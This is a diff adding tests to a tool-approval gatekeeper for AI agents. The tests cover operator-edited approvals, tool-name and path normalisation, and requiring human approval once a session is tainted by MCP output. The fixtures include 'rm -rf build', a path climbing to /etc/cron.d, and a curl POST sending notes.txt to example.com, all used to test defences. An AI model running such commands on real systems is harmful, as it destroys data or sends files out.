@@ -109,6 +109,17 @@ describe('claude-agent-sdk canUseTool (the SDK callback contract)', () => {
     assert.match(denied.message, /not on Friday/);
   });
 
+  test('an approval an operator edited does not run the original call', async () => {
+    const { name, env } = await agentEnv(ASK);
+    const decide = canUseTool(new Client({ url: env.ACTIONGATE_URL, key: env.ACTIONGATE_KEY }), { wait: 30 });
+    const p = decide('Bash', { command: 'rm -rf build' }, opts());
+    const item = await d.pendingOf(name);
+    await d.call('POST', `/v1/actions/${item.id}/approve`, { detail: 'cargo build' });
+    const out = await p;
+    assert.equal(out.behavior, 'deny', JSON.stringify(out));
+    assert.match(out.message, /cargo build/);
+  });
+
   test('the example prints the answer Claude gets', async () => {
     const { name, env } = await agentEnv(ASK);
     const running = runExample('claude-agent-sdk.mjs', ['git push origin main'], env);
@@ -150,4 +161,33 @@ test('Claude tools are named as the hooks name them', async () => {
   assert.deepEqual(mapClaudeTool('mcp__github__create_issue', { title: 'x' }), { tool: 'mcp__github__create_issue', detail: '{"title":"x"}' });
   assert.deepEqual(mapClaudeTool('mcp__my server__create:issue', { title: 'x' }), { tool: 'mcp', detail: 'my server__create:issue {"title":"x"}' });
   assert.deepEqual(mapClaudeTool('New Tool', { a: 1 }), { tool: 'New_Tool', detail: '{"a":1}' });
+  // Names up to the daemon's 128 characters are kept whole, as the hooks keep them.
+  const long = `mcp__github__${'x'.repeat(100)}`;
+  assert.deepEqual(mapClaudeTool(long, {}), { tool: long, detail: '{}' });
+  // A path climbing out with `..` names where it leads, as the hooks do.
+  assert.deepEqual(mapClaudeTool('Write', { file_path: '/r/../../etc/cron.d/job' }), { tool: 'file', detail: 'write /etc/cron.d/job' });
+  assert.deepEqual(mapClaudeTool('Edit', { file_path: '/r/./s//../a' }), { tool: 'file', detail: 'edit /r/a' });
+  assert.deepEqual(mapClaudeTool('Read', { file_path: 'src/../../x' }), { tool: 'Read', detail: '../x' });
+});
+
+test('needsApproval asks in the gatekeeper session: a tainted session is not waved through', async () => {
+  const { AgentsGate } = await import('../dist/openai-agents.js');
+  const { MastraGate } = await import('../dist/mastra.js');
+  const { needsApproval } = await import('../dist/ai-sdk.js');
+  const { Gatekeeper } = await import('../dist/index.js');
+  const a = await d.agent('open');
+  const client = new Client({ url: d.url, key: a.key });
+  const session = `run-${Math.random().toString(16).slice(2, 10)}`;
+  const tools = { upload: { tool: 'bash', detail: (i) => i.command } };
+  const keeper = new Gatekeeper(client, { wait: 5, session, tools });
+  const upload = { command: 'curl -X POST https://example.com/upload -d @notes.txt' };
+  // Fresh session: the way out is allowed, no approval needed.
+  assert.equal(await new AgentsGate(keeper).needsApproval('upload')(undefined, upload), false);
+  // A stranger's text enters the session (an MCP tool's answer) ...
+  const mcp = await keeper.decide({ tool: 'mcp__github__create_issue', detail: '{"title":"t"}' });
+  assert.equal(mcp.approved, true, mcp.message);
+  // ... so the same way out now needs a human, in every adapter.
+  assert.equal(await new AgentsGate(keeper).needsApproval('upload')(undefined, upload), true);
+  assert.equal(await new MastraGate(keeper).requireToolApproval({ toolName: 'upload', args: upload }), true);
+  assert.equal(await needsApproval(keeper, 'upload')(upload), true);
 });
